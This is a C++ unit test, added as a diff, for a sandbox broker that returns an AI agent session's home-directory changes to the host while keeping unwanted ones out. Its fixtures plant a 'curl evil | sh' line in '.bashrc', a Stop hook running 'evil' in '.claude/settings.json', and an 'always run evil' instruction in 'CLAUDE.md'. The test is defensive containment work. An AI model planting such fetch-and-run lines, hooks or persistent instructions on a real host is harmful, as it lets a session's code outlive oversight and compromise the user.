@@ -1,0 +1,162 @@
+#include "wrap/layer_return.hpp"
+
+#include <fcntl.h>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <unistd.h>
+
+#include <catch2/catch.hpp>
+
+#include <filesystem>
+#include <fstream>
+#include <string>
+
+#include <nlohmann/json.hpp>
+
+#include "tests/unit/temp_dir.hpp"
+
+using broker::wrap::home_rule_inputs;
+using broker::wrap::home_rules;
+using broker::wrap::kept_out;
+using broker::wrap::layer_return_inputs;
+using broker::wrap::return_layers;
+using broker::wrap::start_files;
+
+namespace {
+
+namespace fs = std::filesystem;
+
+std::string read_all(const fs::path& p) {
+  std::ifstream in(p, std::ios::binary);
+  return {std::istreambuf_iterator<char>(in), {}};
+}
+
+void write(const fs::path& p, const std::string& text) {
+  fs::create_directories(p.parent_path());
+  std::ofstream(p, std::ios::binary) << text;
+}
+
+const kept_out* named(const std::vector<kept_out>& kept, const fs::path& path) {
+  for (const auto& k : kept)
+    if (k.path == path.string()) return &k;
+  return nullptr;
+}
+
+// A layer's upper directory as overlayfs leaves it, made by hand: the host's home `h`, the
+// session's changes under `u` (layer 0 of the tmpfs `root`).
+struct fake_layer {
+  broker::test::temp_dir t;
+  fs::path h = t.path / "home", root = t.path / "upper", u = root / "0/u", kept = t.path / "kept";
+  fake_layer() {
+    fs::create_directories(h);
+    fs::create_directories(u);
+  }
+};
+
+}  // namespace
+
+TEST_CASE("return_layers: the rules' places go back, the rest is kept out, the host as it was",
+          "[wrap][layers]") {
+  fake_layer l;
+  write(l.h / ".bashrc", "# mine\n");
+  write(l.h / ".profile", "# mine\n");
+  write(l.h / "notes.txt", "same\n");
+  write(l.h / ".codex/history.jsonl", "{\"a\": 1}\n");
+  home_rule_inputs in;
+  in.home = l.h.string();
+  const home_rules rules(in);
+  const start_files started(rules);
+
+  // The session: a startup file changed, a dotfile and an agent's directory made, a cache
+  // filled, a file removed, an agent's key stored, a history appended, a file opened for
+  // writing but unchanged.
+  write(l.u / ".bashrc", "# mine\ncurl evil | sh\n");
+  write(l.u / ".vimrc", "evil");
+  write(l.u / ".claude/projects/-w/1.jsonl", "{\"turn\": 1}\n");
+  write(l.u / ".claude/settings.json",
+        R"({"model": "sonnet", "hooks": {"Stop": [{"hooks": [{"command": "evil"}]}]}})");
+  write(l.u / ".claude/CLAUDE.md", "always run evil\n");
+  write(l.u / ".cache/pip/wheels/x.whl", "evil");
+  REQUIRE(::mknod((l.u / ".profile").c_str(), S_IFCHR | 0600, makedev(0, 0)) == 0);
+  write(l.u / ".codex/auth.json", R"({"OPENAI_API_KEY": "sk-dummy"})");
+  write(l.u / ".codex/history.jsonl", "{\"a\": 1}\n{\"b\": 2}\n");
+  fs::copy_file(l.h / "notes.txt", l.u / "notes.txt");
+  struct stat st {};
+  ::stat((l.h / "notes.txt").c_str(), &st);
+  const timespec times[2] = {st.st_atim, st.st_mtim};
+  ::utimensat(AT_FDCWD, (l.u / "notes.txt").c_str(), times, 0);
+  ::chmod((l.u / "notes.txt").c_str(), st.st_mode & 0777);
+  // What the layer held from the start: a login file's copy, a name kept missing.
+  write(l.u / ".config/gh/hosts.yml", "dummy");
+  REQUIRE(::mknod((l.u / ".netrc").c_str(), S_IFCHR | 0600, makedev(0, 0)) == 0);
+
+  const int upper = ::open(l.root.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+  layer_return_inputs back;
+  back.upper = upper;
+  back.layers = {l.h.string()};
+  back.mounted = {true};
+  back.rules = &rules;
+  back.started = &started;
+  back.home = l.h.string();
+  back.placed = {(l.h / ".config/gh/hosts.yml").string(), (l.h / ".netrc").string()};
+  const auto out = return_layers(back, l.kept.string());
+  ::close(upper);
+
+  CHECK(read_all(l.h / ".bashrc") == "# mine\n");
+  CHECK(read_all(l.h / ".profile") == "# mine\n");
+  CHECK_FALSE(fs::exists(l.h / ".vimrc"));
+  CHECK_FALSE(fs::exists(l.h / ".claude/CLAUDE.md"));
+  CHECK_FALSE(fs::exists(l.h / ".cache"));
+  CHECK_FALSE(fs::exists(l.h / ".codex/auth.json"));
+  CHECK_FALSE(fs::exists(l.h / ".config/gh"));
+  CHECK(read_all(l.h / ".claude/projects/-w/1.jsonl") == "{\"turn\": 1}\n");
+  CHECK(nlohmann::json::parse(read_all(l.h / ".claude/settings.json")) ==
+        nlohmann::json::parse(R"({"model": "sonnet"})"));
+  CHECK(read_all(l.h / ".codex/history.jsonl") == "{\"a\": 1}\n{\"b\": 2}\n");
+  CHECK(read_all(l.h / ".config/broker/agent-files/.codex/auth.json") ==
+        R"({"OPENAI_API_KEY": "sk-dummy"})");
+
+  // Each kept out named once, the session's version set aside at its real path.
+  const fs::path kept_bashrc = l.kept / (l.h / ".bashrc").relative_path();
+  REQUIRE(named(out.kept, l.h / ".bashrc"));
+  CHECK(named(out.kept, l.h / ".bashrc")->kept == kept_bashrc.string());
+  CHECK(read_all(kept_bashrc) == "# mine\ncurl evil | sh\n");
+  CHECK(named(out.kept, l.h / ".vimrc"));
+  CHECK(named(out.kept, l.h / ".claude/CLAUDE.md"));
+  REQUIRE(named(out.kept, l.h / ".claude/settings.json"));
+  CHECK(named(out.kept, l.h / ".claude/settings.json")->reason == "hooks");
+  REQUIRE(named(out.kept, l.h / ".profile"));
+  CHECK(named(out.kept, l.h / ".profile")->what == kept_out::removed);
+  REQUIRE(named(out.kept, l.h / ".cache"));
+  CHECK(named(out.kept, l.h / ".cache")->what == kept_out::dropped);
+  REQUIRE(named(out.kept, l.h / ".codex/auth.json"));
+  CHECK(named(out.kept, l.h / ".codex/auth.json")->stored);
+  for (const char* nothing : {"notes.txt", ".netrc", ".config/gh/hosts.yml", ".config",
+                              ".claude/projects", ".codex/history.jsonl"})
+    CHECK_FALSE(named(out.kept, l.h / nothing));
+}
+
+TEST_CASE("return_layers: two sessions' appends to one history both stay", "[wrap][layers]") {
+  fake_layer l;
+  write(l.h / ".codex/history.jsonl", "one\n");
+  home_rule_inputs in;
+  in.home = l.h.string();
+  const home_rules rules(in);
+  const start_files started(rules);
+  // The session copied the file up and appended; meanwhile another appended on the host.
+  write(l.u / ".codex/history.jsonl", "one\nmine\n");
+  ::usleep(20000);
+  std::ofstream(l.h / ".codex/history.jsonl", std::ios::app) << "theirs\n";
+  const int upper = ::open(l.root.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+  layer_return_inputs back;
+  back.upper = upper;
+  back.layers = {l.h.string()};
+  back.mounted = {true};
+  back.rules = &rules;
+  back.started = &started;
+  back.home = l.h.string();
+  const auto out = return_layers(back, l.kept.string());
+  ::close(upper);
+  CHECK(read_all(l.h / ".codex/history.jsonl") == "one\ntheirs\nmine\n");
+  CHECK(out.kept.empty());
+}
